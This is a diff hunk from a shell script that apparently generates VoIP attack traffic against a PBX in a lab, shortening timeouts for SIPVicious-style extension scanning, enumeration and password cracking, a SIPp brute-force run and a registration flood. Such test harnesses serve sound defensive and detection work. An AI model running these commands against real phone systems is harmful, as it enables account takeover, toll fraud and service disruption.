@@ -108,10 +108,10 @@ run_bg trunk sipp "$pbx_addr:5060" -sf "$sipdir/trunk.xml" -i "${ADDR[trunk]}" -
   -s 2000 -m 10 -r 1 -rp 3000 -l 2 "${sipp_common[@]}"
 sleep 1
 run_bg svmap python3 "$sipdir/sv_from.py" "${ADDR[svmap]}" svmap -b "${ADDR[svmap]}" -x "${ADDR[svmap]}" -P 5070 -p 5060 "$pbx_addr"
-run_bg svwar python3 "$sipdir/sv_from.py" "${ADDR[svwar]}" svwar -b "${ADDR[svwar]}" -x "${ADDR[svwar]}" -P 5070 -m REGISTER -e 1000-1030 --force --maximumtime 30 \
+run_bg svwar python3 "$sipdir/sv_from.py" "${ADDR[svwar]}" svwar -b "${ADDR[svwar]}" -x "${ADDR[svwar]}" -P 5070 -m REGISTER -e 1000-1030 --force --maximumtime 15 \
   "$pbx_addr"
 run_bg svcrack python3 "$sipdir/sv_from.py" "${ADDR[svcrack]}" svcrack -b "${ADDR[svcrack]}" -x "${ADDR[svcrack]}" -P 5070 -u 1001 -r 1000-1040 \
-  --maximumtime 30 "$pbx_addr"
+  --maximumtime 15 "$pbx_addr"
 run_bg bruteforce sipp "$pbx_addr:5060" -sf "$sipdir/bruteforce.xml" -i "${ADDR[bruteforce]}" -p 5066 \
   -s 1001 -au 1001 -ap guess123 -m 20 -r 4 -l 1 "${sipp_attack[@]}"
 run_bg flood sipp "$pbx_addr:5060" -sf "$sipdir/register_flood.xml" -i "${ADDR[flood]}" -p 5068 \
